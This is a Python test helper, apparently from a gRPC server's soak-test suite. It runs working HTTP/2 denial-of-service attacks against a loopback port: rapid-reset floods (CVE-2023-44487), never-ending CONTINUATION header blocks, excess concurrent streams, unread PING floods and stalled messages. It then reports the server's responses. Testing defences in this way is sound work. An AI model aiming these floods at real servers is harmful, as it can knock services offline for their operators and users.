"""Hostile HTTP/2 clients for the gRPC soak (benches/soak/soak_grpc.sh), against one loopback
gRPC port for a bounded time, from 127.0.0.2: rapid resets (CVE-2023-44487), header blocks that
never end, more calls at once than a connection may have, PING floods that never read, and calls
whose message stalls. Prints what it did, and how the server answered, as one JSON line when
time is up. The frame helpers are shared with tests/python/test_grpc_hostile.py.

Usage: hostile_grpc.py HOST:PORT SECONDS"""
import collections
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_HEADERS = 0x4
CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x8, 0x7, 0xB
MODEL_INFER = b"/inference.GRPCInferenceService/ModelInfer"
# Hostile clients come from another loopback address than the legitimate load (127.0.0.1).
SOURCE = ("127.0.0.2", 0)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A header that is not indexed, its name static-table entry `index` (below 15), its value
    short and not Huffman-coded (RFC 7541 §6.2.2)."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


# POST (static entry 3), http (6), the path and authority as literals, and content-type
# application/grpc (entry 31, past the 4-bit prefix: 15 then 16).
CALL = (bytes([0x83, 0x86]) + literal(4, MODEL_INFER) + literal(1, b"x")
        + bytes([0x0F, 0x10, len(b"application/grpc")]) + b"application/grpc")


def frames(sock):
    """The frames the server sends, (kind, stream, payload), until it closes or the socket's
    timeout passes without a byte."""
    buffer = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except (ConnectionResetError, socket.timeout):
            chunk = b""
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            yield buffer[3], stream, buffer[9:9 + length]
            buffer = buffer[9 + length:]
        if not chunk:
            return


def goaway_code(sock):
    """The error code of the GOAWAY the server sends before it closes; None without one."""
    for kind, _, payload in frames(sock):
        if kind == GOAWAY:
            return struct.unpack(">I", payload[4:8])[0]
    return None


def connect(address, source=None):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=30, source_address=source)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def rapid_reset(address, bursts=100, per_burst=100, source=None):
    """Opens and cancels up to bursts × per_burst calls; returns the server's GOAWAY code."""
    with connect(address, source) as sock:
        stream = 1
        try:
            for _ in range(bursts):
                burst = bytearray()
                for _ in range(per_burst):
                    burst += frame(HEADERS, END_HEADERS, stream, CALL)
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                sock.sendall(burst)
        except OSError:
            pass  # the server went away mid-attack: the defence at work
        return goaway_code(sock)


def endless_header_block(address, source=None):
    """A header block of 1,000 CONTINUATION frames that never ends; the server's GOAWAY code."""
    # A literal with a new name; its value's length, 1,000, as an HPACK integer with a 7-bit
    # prefix: 127, then 873 in 7-bit groups, low first (RFC 7541 §5.1).
    filler = b"\x00" + bytes([len(b"x-filler")]) + b"x-filler" + b"\x7f\xe9\x06" + b"a" * 1000
    flood = frame(HEADERS, 0, 1, CALL) + b"".join(frame(CONTINUATION, 0, 1, filler) for _ in range(1000))
    with connect(address, source) as sock:
        try:
            sock.sendall(flood)
        except OSError:
            pass
        return goaway_code(sock)


def crowd(address, calls=300, hold=2.0, source=None):
    """Opens `calls` calls whose messages never come, holds them `hold` s; the calls refused."""
    with connect(address, source) as sock:
        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) for n in range(calls)))
        sock.settimeout(hold)
        return sum(1 for kind, _, payload in frames(sock)
                   if kind == RST_STREAM and struct.unpack(">I", payload)[0] == REFUSED_STREAM)


def ping_flood(address, source=None):
    """PINGs without reading the answers until the server stops taking them (it reads no more
    while its answers are unread) or closes; then how the connection ended, within 60 s."""
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(10_000))
    with connect(address, source) as sock:
        sock.settimeout(5)
        try:
            for _ in range(100):
                sock.sendall(pings)
        except socket.timeout:
            pass  # the server holds back: wait for its deadline
        except OSError:
            return "closed"
        sock.settimeout(60)
        ended = goaway_code(sock)
        return "closed" if ended is None else f"goaway {ended}"


def stalled_message(address, source=None):
    """A call whose 5-byte message prefix declares 100 bytes, then nothing: what ends it."""
    with connect(address, source) as sock:
        sock.sendall(frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, b"\x00\x00\x00\x00\x64"))
        sock.settimeout(60)
        for kind, stream, _ in frames(sock):
            if stream == 1 and kind in (HEADERS, RST_STREAM):
                return "answered" if kind == HEADERS else "reset"
        return "closed"


def main():
    address, seconds = sys.argv[1], float(sys.argv[2])
    deadline = time.monotonic() + seconds
    outcomes = collections.Counter()
    lock = threading.Lock()

    def attack(name, run):
        while time.monotonic() < deadline:
            try:
                outcome = run(address, source=SOURCE)
            except OSError as error:
                outcome = type(error).__name__
            with lock:
                outcomes[f"{name}: {outcome}"] += 1

    attacks = [("rapid_reset", rapid_reset), ("endless_header_block", endless_header_block),
               ("crowd_refused", crowd), ("ping_flood", ping_flood),
               ("stalled_message", stalled_message)]
    threads = [threading.Thread(target=attack, args=pair, daemon=True) for pair in attacks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=seconds + 120)
    print(json.dumps(dict(sorted(outcomes.items()))))


if __name__ == "__main__":
    main()
